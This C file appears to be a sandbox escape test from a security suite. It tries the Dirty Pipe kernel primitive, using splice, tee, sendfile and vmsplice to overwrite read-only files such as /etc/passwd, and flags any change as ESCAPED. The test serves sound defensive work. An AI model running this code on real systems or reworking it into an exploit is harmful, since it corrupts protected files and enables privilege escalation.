// @hostile dirty_pipe.c
// @group fs
// @tries the primitive of Dirty Pipe: a page of a read-only file spliced into a pipe and written over, by splice, tee, vmsplice and sendfile
// @limits cpu=1 wall=4 mem=256 procs=64 out=1 disk=64 ccwall=10
// @expect OK,RTE   (never an internal error)
// @check stdout!~ESCAPED
// @severity hard
// @layer seccomp, mount_ns
// @invariants up noproc nowrite noleft return<=7s
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <sys/sendfile.h>
#include <sys/uio.h>

/* Success looks like another byte in the file when it is read again, which a bug of the kernel would allow. */
int main(void) {
    const char *paths[] = {"/usr/lib/os-release", "/etc/passwd", "/etc/ld.so.cache", "/proc/self/exe"};
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        char before[64], after[64], fill[4096] = {0};
        int p[2], q[2], f = open(paths[i], O_RDONLY);
        if (f < 0 || pipe(p) || pipe(q)) continue;
        if (pread(f, before, sizeof before, 0) != sizeof before) continue;
        int room = fcntl(p[1], F_GETPIPE_SZ); /* filled and drained once: every slot has had the flag for appending */
        for (int n = 0; n < room; n += 4096) (void)!write(p[1], fill, sizeof fill);
        for (int n = 0; n < room; n += 4096) (void)!read(p[0], fill, sizeof fill);
        off_t at = 4;
        ssize_t got = splice(f, &at, p[1], 0, 1, 0);
        (void)!write(p[1], "PWNED", 5);
        tee(p[0], q[1], 16, SPLICE_F_NONBLOCK);
        (void)!write(q[1], "PWNED", 5);
        at = 8;
        sendfile(p[1], f, &at, 1);
        (void)!write(p[1], "PWNED", 5);
        struct iovec v = {fill, sizeof fill};
        if (vmsplice(p[1], &v, 1, SPLICE_F_GIFT | SPLICE_F_NONBLOCK) >= 0) puts("ESCAPED: vmsplice");
        if (splice(p[0], 0, f, 0, 1, SPLICE_F_NONBLOCK) >= 0) printf("ESCAPED: spliced into %s\n", paths[i]);
        if (pread(f, after, sizeof after, 0) != sizeof after || memcmp(before, after, sizeof before))
            printf("ESCAPED: %s has changed\n", paths[i]);
        printf("%s: spliced %zd\n", paths[i], got);
        close(f), close(p[0]), close(p[1]), close(q[0]), close(q[1]);
    }
    return 0;
}
